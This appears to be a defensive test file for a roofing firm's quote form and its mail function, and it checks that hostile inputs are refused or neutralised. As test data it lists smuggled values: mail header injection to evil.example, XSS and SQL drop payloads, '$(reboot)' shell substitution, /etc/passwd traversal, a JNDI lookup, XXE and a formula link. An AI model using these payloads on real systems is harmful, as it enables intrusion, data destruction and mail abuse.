import fc from "fast-check";
import { JSDOM } from "jsdom";
import { extract } from "letterparser";
import { afterAll, beforeAll, describe, expect, inject, test, vi } from "vitest";
import { type EdgeFunction, startEdgeFunction } from "../../embedded/edge-function.ts";
import { embeddedKeys } from "../../embedded/environment.ts";
import { type RunningDatabase, startDatabase } from "../../embedded/parts/running-database.ts";
import { secretsFor } from "../../embedded/parts/running-function.ts";
import {
  messageIdOf,
  type ScriptedMailServer,
  startScriptedMailServer,
} from "../../embedded/parts/scripted-mail-server.ts";
import {
  fieldLimits,
  type QuoteRequest,
  serviceLabels,
} from "../../supabase/functions/_shared/quote-request.ts";
import { composeConfirmation } from "../../supabase/functions/send-quote-email/confirmation.ts";
import { composeMail } from "../../supabase/functions/send-quote-email/mail.ts";
import { isPlainAddress } from "../../supabase/functions/send-quote-email/mail-text.ts";
import type { WaitingMail } from "../../supabase/functions/send-quote-email/outbox.ts";
import { parseQuoteRequest } from "../../supabase/functions/send-quote-email/request.ts";

const quote: QuoteRequest = {
  name: "Jan de Vries",
  phone: "06 12345678",
  email: "jan@example.nl",
  message: "Het lekt.",
  services: ["Dakgoten"],
};

/** Without a digit, so that each in a confirmation is the visitor's. */
const facts = {
  companyName: "Dakbedrijf",
  phone: "(kantoor)",
  emergencyPhone: "(spoed)",
  sender: "website@dakdekker.example",
  replyTo: "eigenaar@dakdekker.example",
};

let database: RunningDatabase;
let mailServer: ScriptedMailServer;
let edgeFunction: EdgeFunction;

beforeAll(async () => {
  // The embedded interface reports every refusal there, and refusals are all that happens here.
  vi.spyOn(console, "error").mockImplementation(() => {});
  database = await startDatabase(inject("newData"));
  mailServer = await startScriptedMailServer();
  edgeFunction = await startEdgeFunction(secretsFor(mailServer.port, database.url));
  // What is tried here is the content of requests; the caps have tests of their own.
  await database.exec(`
    update private.settings set most_in_all = 100000, doubtful_in_all = 100000,
      most_confirmations_per_address = 100000, most_confirmations_in_all = 100000;
    select public.set_confirmation_facts('${JSON.stringify(facts)}')`);
});

afterAll(async () => {
  await edgeFunction?.stop();
  await mailServer?.stop();
  await database?.stop();
});

const textFields = ["name", "phone", "email", "message"] as const;

/** Texts that have broken forms, mails, databases and screens before. */
const nastyTexts: Record<string, string> = {
  "CRLF and a header": "Jan\r\nBcc: eve@evil.example",
  "LF and a header": "Jan\nBcc: eve@evil.example",
  "CR and a header": "Jan\rSubject: x",
  "an end of mail": "a\r\n.\r\nMAIL FROM:<eve@evil.example>\r\nRCPT TO:<eve@evil.example>",
  "folded header": "Jan\r\n\tBcc: eve@evil.example",
  "line separator": "Jan\u2028Bcc: eve@evil.example",
  "paragraph separator": "Jan\u2029Bcc: eve@evil.example",
  "next line": "Jan\u0085Bcc: eve@evil.example",
  "encoded word": "=?utf-8?B?QmNjOiBldmVAZXZpbC5leGFtcGxl?=",
  "encoded right-to-left mark": "=?utf-8?B?4oCuZ25wLmV4ZQ==?= x",
  "encoded line break": "=?utf-8?Q?Jan=0D=0ABcc:_eve@evil.example?=",
  "encoded word in an address": "=?utf-8?Q?eve?=@example.nl",
  "encoded words side by side": "=?utf-8?Q?a?==?utf-8?B?4oCu?=",
  "encoded word in pieces": "=\u0007?utf-8?B?4oCu?\u0007=",
  "doubled encoded word": "==??utf-8?B?4oCu?==??=",
  "script tag": "<script>alert(1)</script>",
  "image tag": "<img src=x onerror=alert(1)>",
  "broken tag": "<svg/onload=alert(1)//",
  "closing tags": "</td></tr></table></html><h1>x</h1>",
  "attribute break-out": '" onmouseover="alert(1)" x=\'',
  entities: "&lt;b&gt;&#x3c;b&#x3e;",
  "script address": "javascript:alert(1)",
  "HTML comment": "<!-- --!> -->",
  CDATA: "]]><![CDATA[",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text itself that is tried.
  "template words": "{{7*7}} ${7*7} <%= 7*7 %>",
  SQL: "'; drop table contact_submissions; --",
  "SQL dollar quote": "$$; drop schema private cascade; $$",
  "SQL copy": "\\N\t\\.",
  "right-to-left override": "Jan\u202Egpj.exe",
  isolates: "a\u2066b\u2069c\u2067d",
  "Arabic letter mark": "a\u061cb",
  "zero width": "J\u200ban\u200d\ufeff",
  "combining flood": `Z${"\u0300".repeat(60)}`,
  "emoji family": "👨‍👩‍👧‍👦🏠🇳🇱",
  "half an emoji": "\ud83c",
  "halves the wrong way round": "\udfe0\ud83c",
  NUL: "Jan\u0000Piet",
  "control characters": "\u0001\u0007\u001b[31mrood\u007f",
  noncharacter: "\uffff\ufffe",
  "private use": "\ue000\u{10ffff}",
  backslashes: "\\\\\\n\\u0000",
  quotes: "\"'`´‘’“”",
  "path climb": "../../../../etc/passwd",
  "file address": "file:///etc/passwd",
  "shell words": "$(reboot) `reboot` | reboot; reboot",
  "format words": "%s%n%x%00%0d%0a",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as above.
  "lookup words": "${jndi:ldap://evil.example/a}",
  formula: '=HYPERLINK("https://evil.example","x")',
  "only spaces": " \t\n\u00a0\u3000",
  empty: "",
  "two addresses": "jan@example.nl, eve@evil.example",
  "address with a name": '"Jan" <eve@evil.example>',
  "address with a comment": "jan@example.nl(eve@evil.example)",
  "address with a route": "<@evil.example:jan@example.nl>",
  "over every limit": "x".repeat(5001),
  "a megabyte": "x".repeat(1024 * 1024),
};

const wrongValues: Record<string, unknown> = {
  null: null,
  "a number": 1,
  "a boolean": true,
  "a list": ["Jan"],
  "an object": { toString: "Jan" },
  "a deep object": { a: { b: { c: [{}] } } },
};

const wrongServices: Record<string, unknown> = {
  none: [],
  unknown: ["Zonnepanelen"],
  "one text": "Dakgoten",
  "a list as Postgres writes it": "{Dakgoten}",
  "a list as Postgres writes it, unknown": "{Zonnepanelen}",
  twice: ["Dakgoten", "Dakgoten"],
  nested: [["Dakgoten"]],
  "with null": ["Dakgoten", null],
  "with a number": ["Dakgoten", 1],
  "other case": ["dakgoten"],
  "with a space": ["Dakgoten "],
  "a thousand": Array.from({ length: 1000 }, () => "Dakgoten"),
  "a tag": ["<b>Dakgoten</b>"],
  "a number": 5,
  "a fraction": 0.1,
  "a boolean": true,
  "an object": {},
  "an object with a list": { services: ["Dakgoten"] },
  "with an object": [{}],
  "with a list and an object": [["Dakgoten"], {}],
};

const unknownFields = [
  "id",
  "created_at",
  "spam_reason",
  "to",
  "bcc",
  "subject",
  "html",
  "attachments",
  "__proto__",
  "constructor",
  "",
  "name ",
  "NAME",
];

const rawBodies: Record<string, string> = {
  nothing: "",
  "half an object": '{"name":"Jan"',
  null: "null",
  "a number": "1",
  "a text": '"Jan"',
  "an empty list": "[]",
  "an empty object": "{}",
  "deeply nested lists": `${"[".repeat(5_000)}${"]".repeat(5_000)}`,
  "a deeply nested name": `{"name":${'{"a":'.repeat(2_000)}1${"}".repeat(2_000)}}`,
  "a key twice": `{"name":"Eve",${JSON.stringify(quote).slice(1)}`,
  "a key twice, the second wrong": `${JSON.stringify(quote).slice(0, -1)},"services":["Zonnepanelen"]}`,
  "a list of requests": JSON.stringify([quote, { ...quote, name: "Piet" }]),
  "a list with a bad one": JSON.stringify([
    { ...quote, name: "Klaas" },
    { ...quote, services: ["x"] },
  ]),
  "form encoding": "name=Jan&phone=06",
  XML: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  CSV: "name,phone\nJan,06",
  "a byte order mark": `\ufeff${JSON.stringify(quote)}`,
  "a comment": `// x\n${JSON.stringify(quote)}`,
  "a large number": '{"name":1e999,"phone":"06"}',
  "a megabyte of spaces": " ".repeat(1024 * 1024),
};

/** Name and body of every case; each goes to the table and to the function. */
const corpus: [string, string][] = [
  ...textFields.flatMap((field) =>
    Object.entries(nastyTexts).map(([name, text]): [string, string] => [
      `${field}: ${name}`,
      JSON.stringify({ ...quote, [field]: text }),
    ]),
  ),
  ...textFields.flatMap((field) =>
    Object.entries(wrongValues).map(([name, value]): [string, string] => [
      `${field} is ${name}`,
      JSON.stringify({ ...quote, [field]: value }),
    ]),
  ),
  ...textFields.map((field): [string, string] => [
    `${field} is missing`,
    JSON.stringify({ ...quote, [field]: undefined }),
  ]),
  ...Object.entries(wrongServices).map(([name, services]): [string, string] => [
    `services: ${name}`,
    JSON.stringify({ ...quote, services }),
  ]),
  ...unknownFields.map((field): [string, string] => [
    `an unknown field: ${JSON.stringify(field)}`,
    `{${JSON.stringify(field)}:"2020-01-01",${JSON.stringify(quote).slice(1)}`,
  ]),
  ...Object.entries(rawBodies),
];

test("there are at least 200 cases", () => {
  expect(corpus.length).toBeGreaterThanOrEqual(200);
});

/** Sends a body to the table with the visitor's key. */
function toTable(body: string, { method = "POST", headers = {}, query = "" } = {}) {
  return fetch(`${database.url}/rest/v1/contact_submissions${query}`, {
    method,
    headers: { apikey: embeddedKeys.publishable, "content-type": "application/json", ...headers },
    ...(method !== "GET" && { body }),
  });
}

/** Refusals that the embedded interface answers with 500, where the hosted service says 400. */
const refusals = /violates (check|not-null) constraint|Invalid input for string type/;

/** The embedded Postgres has one session for all: what breaks in it must not reach the next request. */
async function expectToTakeRequests() {
  const response = await toTable(JSON.stringify({ ...quote, name: `Na alles ${Math.random()}` }));
  expect([response.status, await response.text()]).toEqual([201, ""]);
}

async function expectNoFault(response: Response) {
  const text = await response.text();
  if (response.status < 500) return;
  expect([response.status, text]).toEqual([500, expect.stringMatching(refusals)]);
}

/** Whether every stored row is one that the function would accept: the rules are the same everywhere. */
async function expectOnlyGoodRows() {
  const rows = await database.rows<QuoteRequest>(
    "select name, phone, email, message, services from contact_submissions",
  );
  for (const row of rows) expect(parseQuoteRequest(JSON.stringify(row))).toEqual({ ok: true, quote: row });
  const meddled =
    "select from contact_submissions where created_at < now() - interval '1 hour' or id > 100000";
  expect(await database.rows(meddled)).toEqual([]);
}

/** Marks that make one text look like another. */
const misleading = /[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

/**
 * What a mail program shows of the headers, read by a parser that is not by the maker of the library
 * that wrote them: no mark that misleads, and an answer goes to one address, or to the website's own.
 */
function expectOneReading(mail: string) {
  const { subject, from, to, replyTo = [] } = extract(mail);
  expect(subject ?? "").not.toMatch(misleading);
  expect([from?.address, ...(to ?? []).map(({ address }) => address)]).toEqual([
    "website@dakdekker.example",
    "eigenaar@dakdekker.example",
  ]);
  const answered = Array.isArray(replyTo) ? replyTo : [replyTo];
  expect(answered.length).toBeLessThanOrEqual(1);
  for (const { name, address } of answered) {
    expect(`${name ?? ""}${address}`).not.toMatch(misleading);
    expect(address).toMatch(/^[^\s,;<>()]+@example\.nl$/);
  }
}

/**
 * What a mail program could make of a text that a stranger had sent to somebody: an address, a link, a number to call.
 * The mail's own numbers are those of its three steps and of the 24 hours.
 */
function expectNothingToTap(text: string) {
  const own = /^[123]\. |24 uur/gm;
  expect(text.replace(own, "")).not.toMatch(/\p{N}|:\/\/|@|[^\s.]\.[\p{L}\p{N}]/u);
}

/** A confirmation goes to one plain address, and nothing of what was typed leads anywhere. */
function expectHarmless(mail: string) {
  const { subject, from, to, replyTo, text = "" } = extract(mail);
  expect(subject).toBe("Wij hebben uw aanvraag ontvangen");
  expect(from?.address).toBe(facts.sender);
  expect(replyTo).toMatchObject([{ address: facts.replyTo }]);
  expect(to).toHaveLength(1);
  expect(isPlainAddress(to?.[0]?.address ?? "")).toBe(true);
  expect(text).not.toMatch(/evil\.\S|<|06 12345678|Het lekt\./);
  expectNothingToTap(text);
}

const mailsLeft = () => database.rows("select from private.outbox where state = 'waiting' and attempts = 0");

test("the corpus: nothing breaks, no row is outside the rules, and mail goes to the owner and to plain addresses only", async () => {
  for (const [name, body] of corpus) {
    const stored = await toTable(body);
    await expectNoFault(stored);
    const answer = await fetch(edgeFunction.url, { method: "POST", body });
    expect([name, [202, 400, 413].includes(answer.status)]).toEqual([name, true]);
    await answer.body?.cancel();
  }
  await expectOnlyGoodRows();

  const secret = { "x-scheduler-secret": embeddedKeys.schedulerSecret };
  // Some are still being sent for the call that came with them.
  await expect
    .poll(async () => {
      await fetch(edgeFunction.url, { method: "POST", headers: secret });
      return database.rows(`select from private.outbox where state = 'waiting'
        union all select from private.confirmations where state = 'waiting'`);
    })
    .toEqual([]);
  const rows = await database.rows<QuoteRequest & { spam_reason: string | null; state: string | null }>(
    "select q.*, c.state from contact_submissions as q left join private.confirmations as c on c.quote_id = q.id",
  );
  expect(rows.length).toBeGreaterThan(100);
  const toVisitors = mailServer.accepted.filter((mail) => /^Auto-Submitted:/m.test(mail));
  const toOwner = mailServer.accepted.filter((mail) => !toVisitors.includes(mail));
  expect(toOwner).toHaveLength(rows.length);
  const confirmed = rows.filter(({ spam_reason, email }) => spam_reason === null && isPlainAddress(email));
  expect(rows.filter(({ state }) => state === "sent")).toEqual(confirmed);
  expect(toVisitors).toHaveLength(confirmed.length);
  expect(new Set(mailServer.accepted.map(messageIdOf)).size).toBe(mailServer.accepted.length);
  expect([...mailServer.recipients].sort()).toEqual(
    [...new Set(["eigenaar@dakdekker.example", ...confirmed.map(({ email }) => email)])]
      .map((address) => address.toLowerCase())
      .sort(),
  );
  for (const mail of toVisitors) expectHarmless(mail);
  for (const mail of toOwner) {
    const headers = mail.slice(0, mail.indexOf("\r\n\r\n"));
    expect(headers).not.toMatch(/^(bcc|cc|x-evil|mail from|rcpt to):/im);
    expect(headers.match(/^(to|from|subject|message-id|reply-to):/gim)?.length).toBeLessThanOrEqual(5);
    expectOneReading(mail);
  }
}, 120_000);

test("a replay of everything stores nothing and mails nothing", async () => {
  const before = await database.rows("select from contact_submissions");
  const sent = mailServer.accepted.length;
  for (const [, body] of corpus) {
    await (await toTable(body)).body?.cancel();
    await (await fetch(edgeFunction.url, { method: "POST", body })).body?.cancel();
  }
  expect(await database.rows("select from contact_submissions")).toHaveLength(before.length);
  expect(await mailsLeft()).toEqual([]);
  expect(mailServer.accepted).toHaveLength(sent);
}, 120_000);

test.each(Object.keys(wrongServices))("after services: %s, the next request is taken", async (name) => {
  await (await toTable(JSON.stringify({ ...quote, services: wrongServices[name] }))).body?.cancel();
  await expectToTakeRequests();
});

describe("Another way in", () => {
  const visible = async () => (await database.rows("select from contact_submissions")).length;

  test.each([
    ["reads", { method: "GET" }],
    ["reads all columns", { method: "GET", query: "?select=*" }],
    ["changes", { method: "PATCH", query: "?id=gt.0" }],
    ["removes", { method: "DELETE", query: "?id=gt.0" }],
    ["puts", { method: "PUT", query: "?id=eq.1" }],
    ["reads back what it stores", { headers: { prefer: "return=representation" } }],
    ["overwrites", { headers: { prefer: "resolution=merge-duplicates" }, query: "?on_conflict=id" }],
    ["names columns", { query: "?columns=id,created_at,name" }],
    ["asks for another schema", { headers: { "content-profile": "private", "accept-profile": "private" } }],
    ["claims to be the owner", { headers: { "x-role": "service_role", role: "postgres" } }],
  ])("that %s gets no row to see and changes none", async (_, options) => {
    const before = await visible();
    const body = JSON.stringify({ ...quote, name: `Ingang ${JSON.stringify(options)}`.slice(0, 200) });
    const response = await toTable(body, options);
    const text = await response.text();
    expect(text).not.toContain("jan@example.nl");
    expect(await visible()).toBeGreaterThanOrEqual(before);
    await expectOnlyGoodRows();
  });

  test.each(["https://evil.example", "null", "https://dakdekker.example.evil.example", "file://"])(
    "from the website %s is refused by the function",
    async (origin) => {
      const body = JSON.stringify(quote);
      expect((await fetch(edgeFunction.url, { method: "POST", body, headers: { origin } })).status).toBe(403);
    },
  );
});

/** Any text at all, with halves of emoji and control characters more often than chance would bring them. */
const anyText = fc.oneof(
  fc.string({ unit: "binary", maxLength: 300 }),
  fc.string({ unit: "grapheme", maxLength: 300 }),
  fc.constantFrom(...Object.values(nastyTexts).filter((text) => text.length < 1000)),
);

const storableText = (limit: number) =>
  anyText
    .map((text) => [...text.replaceAll("\0", "")].slice(0, limit).join(""))
    .filter((text) => text.isWellFormed() && text.trim() !== "");

const anyRequest: fc.Arbitrary<WaitingMail> = fc.record({
  kind: fc.constant("quote" as const),
  id: fc.nat(),
  request_id: fc.nat(),
  lease: fc.uuid(),
  message_id: fc.uuid(),
  created_at: fc.constant("2026-11-21T09:30:00Z"),
  spam_reason: fc.constantFrom(null, "source" as const, "flood" as const, "links" as const),
  name: storableText(fieldLimits.name),
  phone: storableText(fieldLimits.phone),
  email: storableText(fieldLimits.email),
  message: storableText(fieldLimits.message),
  services: fc.subarray([...serviceLabels], { minLength: 1 }),
});

describe("Whatever is typed", () => {
  const envelope = {
    companyName: "Dakbedrijf",
    from: "website@dakdekker.example",
    to: "eigenaar@dakdekker.example",
    siteUrl: "https://www.dakdekker.example",
  };
  const ownElements = "HTML HEAD BODY H1 H2 TABLE TBODY TR TH TD UL LI P A".split(" ");

  test("the mail has no element and no link that is not ours", () => {
    const { window } = new JSDOM();
    const parser = new window.DOMParser();
    fc.assert(
      fc.property(anyRequest, (request) => {
        const { html = "" } = composeMail(request, envelope);
        const document = parser.parseFromString(html, "text/html");
        for (const element of document.querySelectorAll("*")) {
          expect(ownElements).toContain(element.tagName);
          for (const { name, value } of element.attributes) {
            expect(["style", "lang", "scope", "dir", "href"]).toContain(name);
            if (name === "href")
              expect(value).toMatch(
                /^(tel:[\d+]+|mailto:[^\s<>"]+|https:\/\/www\.dakdekker\.example\/aanvragen\?offerte=\d+)$/,
              );
          }
        }
      }),
      { numRuns: 150 },
    );
  });

  test("every header of the mail is one line, to the owner, from the website", () => {
    fc.assert(
      fc.property(anyRequest, (request) => {
        const mail = composeMail(request, envelope);
        expect([mail.to, mail.from.address]).toEqual([envelope.to, envelope.from]);
        for (const header of [mail.subject, mail.from.name, mail.replyTo?.name, mail.replyTo?.address]) {
          expect(header ?? "").not.toMatch(/[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u);
        }
        expect([...mail.subject].length).toBeLessThanOrEqual(120);
        expect(mail.replyTo?.address ?? "a@b.nl").toMatch(/^[^\s,;<>()]+@[^\s,;<>()@]+$/);
      }),
      { numRuns: 150 },
    );
  });

  test("the confirmation greets with a name that leads nowhere, and is on the point otherwise", () => {
    fc.assert(
      fc.property(anyRequest, fc.emailAddress(), (request, email) => {
        if (request.kind !== "quote") return;
        const { to, subject, text } = composeConfirmation({ ...request, quote_id: 1, email, facts });
        expect([to, subject]).toEqual([{ name: "", address: email }, "Wij hebben uw aanvraag ontvangen"]);
        const [greeting = "", ...rest] = text.split("\n");
        expect(greeting).toMatch(/^(Goedendag|Beste ['’]?\p{L}[\p{L}\p{M}.'’ -]{0,39}),$/u);
        expectNothingToTap(greeting);
        expectNothingToTap(rest.join("\n"));
      }),
      { numRuns: 500 },
    );
  });

  test("the function reads any body without falling over", () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.json(),
          anyText,
          fc.jsonValue().map((value) => JSON.stringify({ ...quote, name: value })),
        ),
        (body) => {
          expect(typeof parseQuoteRequest(body).ok).toBe("boolean");
        },
      ),
      { numRuns: 500 },
    );
  });

  test("what the database stores, the function would mail", async () => {
    const texts = fc.record({ name: anyText, phone: anyText, email: anyText, message: anyText });
    await fc.assert(
      fc.asyncProperty(texts, async (fields) => {
        const body = JSON.stringify({ ...quote, ...fields });
        const response = await toTable(body);
        await expectNoFault(response);
        // Half an emoji is refused by the hosted interface, and mended by the embedded one.
        if (!response.ok || !Object.values(fields).every((text) => text.isWellFormed())) return;
        expect(parseQuoteRequest(body).ok).toBe(true);
      }),
      { numRuns: 100 },
    );
    await expectOnlyGoodRows();
  });
});
